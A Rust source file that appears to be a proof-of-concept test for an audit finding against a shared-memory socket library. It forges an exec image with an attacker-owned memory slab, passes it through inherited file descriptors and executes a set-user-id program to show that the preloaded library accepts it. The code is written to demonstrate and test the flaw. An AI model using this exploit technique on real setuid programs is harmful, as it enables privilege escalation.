//! Finding 15: a set-user-id program in a system whose /etc/ld.so.preload names the library.

use sd_shm::slab::Slab;
use std::io;
use std::net::TcpListener;
use std::os::unix::process::CommandExt;

/// Of `sd_socket::exec::image`.
const MAGIC: u64 = 0x5344_6578_6563_3032;
/// Numbers under which the image of an exec is looked for.
const PLACES: [i32; 2] = [1023, 19_999];

/// Plants an image with a slab of the attacker's, and becomes that program.
pub(crate) fn plant(program: &str) -> io::Result<()> {
    let fault = |e: sd_sys::Errno| io::Error::from_raw_os_error(e.0);
    let (slab_fd, slab) = Slab::create(std::process::id()).map_err(fault)?;
    let pid = u64::from(std::process::id());
    let base = slab.base() as u64;
    let words =
        [MAGIC, u64::from(sd_shm::VERSION), pid, 0, u64::MAX, 1, slab_fd.raw() as u64, base, 1, 0, 0, 0, 0];
    let bytes: Vec<u8> = words.iter().flat_map(|word| word.to_ne_bytes()).collect();
    let image = sd_sys::mem::memfd_sealed(c"planted-image", bytes.len()).map_err(fault)?;
    sd_sys::fd::write(image.raw(), &bytes).map_err(fault)?;
    // SAFETY: no pointers.
    unsafe {
        libc::fcntl(slab_fd.raw(), libc::F_SETFD, 0);
        for place in PLACES {
            libc::dup2(image.raw(), place);
        }
    }
    Err(std::process::Command::new(program).arg("secure").exec())
}

/// The set-user-id program: uses a socket, and says what of SocksDirect it has.
pub(crate) fn look() -> io::Result<()> {
    let _listener = TcpListener::bind("127.0.0.1:0")?;
    // SAFETY: no arguments.
    let (user, effective) = unsafe { (libc::getuid(), libc::geteuid()) };
    println!("uid {user} euid {effective}");
    let maps = std::fs::read_to_string("/proc/self/maps")?;
    println!("library: {}", maps.contains("libsd.so"));
    maps.lines().filter(|line| line.contains("/memfd:")).for_each(|line| println!("seen: {line}"));
    Ok(())
}
